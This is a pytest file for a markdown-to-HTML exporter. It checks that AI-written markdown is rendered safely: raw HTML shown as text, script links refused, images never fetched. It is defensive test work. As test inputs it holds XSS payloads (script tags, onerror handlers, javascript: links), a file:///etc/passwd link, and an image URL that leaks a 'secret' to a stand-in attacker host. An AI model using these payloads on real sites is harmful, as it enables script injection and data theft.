"""An answer's markdown as HTML (avatar.library.export.markdown), the web page's and the HTML
export's: rendered as the terminal draws it, and what the model wrote never becomes markup —
raw HTML shown as text, links to scripts refused, images never fetched, a link's address
beside its text, table alignment as a class (the page's CSP allows no inline style)."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser

import pytest

from avatar.core.markdown_blocks import Block
from avatar.library.export.markdown import block_html, markdown_html


class Tags(HTMLParser):
    """Every tag and attribute of some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def text_of(html: str) -> str:
    return unescape(re.sub(r"<[^>]+>", "", html))


def test_the_blocks_the_terminal_draws() -> None:
    html = markdown_html(
        "# Title\n\nSome **bold**, `code`, ~~gone~~.\n\n3. three\n4. four\n   - nested\n\n"
        "> a quote\n\n---\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```python\ndef f(): pass\n```\n"
    )
    tags = [t for t, _ in Tags(html).found]
    for tag in ("h1", "strong", "code", "s", "ol", "ul", "blockquote", "hr", "table", "pre"):
        assert tag in tags, tag
    assert '<ol start="3">' in html  # numbers as written
    assert '<div class="table"><table>' in html  # scrolls in its own box
    assert '<th class="align-center">a</th>' in html and '<td class="align-right">2</td>' in html
    assert '<pre class="hl"><code><span class="k">def</span>' in html


@pytest.mark.parametrize(
    "said",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "<iframe src=//evil></iframe>",
        '<a href="javascript:alert(1)">x</a>',
        "<style>body{display:none}</style>",
        "<!-- hidden -->",
    ],
)
def test_raw_html_is_shown_as_text(said: str) -> None:
    for html in (markdown_html(f"before {said} after"), markdown_html(said)):
        assert not [t for t, _ in Tags(html).found if t not in ("p",)], html
        assert said in text_of(html)


def test_no_address_runs_or_is_fetched() -> None:
    html = markdown_html(
        "[click](javascript:alert(1)) [v](vbscript:x) [f](file:///etc/passwd) "
        "![pic](https://evil.example/leak.png?what=secret) [docs](https://example.com/a b) "
        "[ok](https://example.com/guide) <https://example.com/auto>"
    )
    found = Tags(html).found
    assert not [t for t, _ in found if t in ("img", "script", "iframe")]
    hrefs = [a["href"] for t, a in found if t == "a"]
    assert hrefs == [
        "https://evil.example/leak.png?what=secret",  # the image's address, as a link
        "https://example.com/guide",
        "https://example.com/auto",
    ]
    shown = text_of(html)
    assert "click (" not in shown and "[click](javascript:alert(1))" in shown  # left as text
    assert "ok (https://example.com/guide)" in shown  # the text cannot hide the address
    assert "🖼 pic (https://evil.example/leak.png?what=secret)" in shown
    for tag, attrs in found:
        if tag == "a":
            assert attrs["rel"] == "noopener noreferrer nofollow" and attrs["target"] == "_blank"
    assert not [a for _, attrs in found for a in attrs if a == "style" or a.startswith("on")]


def test_a_streamed_code_block_is_highlighted_as_a_fenced_one() -> None:
    fenced = markdown_html("```python\nx = 1\n```\n")
    assert block_html(Block("code", "x = 1", "python")) == fenced
    assert block_html(Block("code", "<b>x</b>", "")) == (
        '<pre class="hl"><code>&lt;b&gt;x&lt;/b&gt;</code></pre>\n'
    )
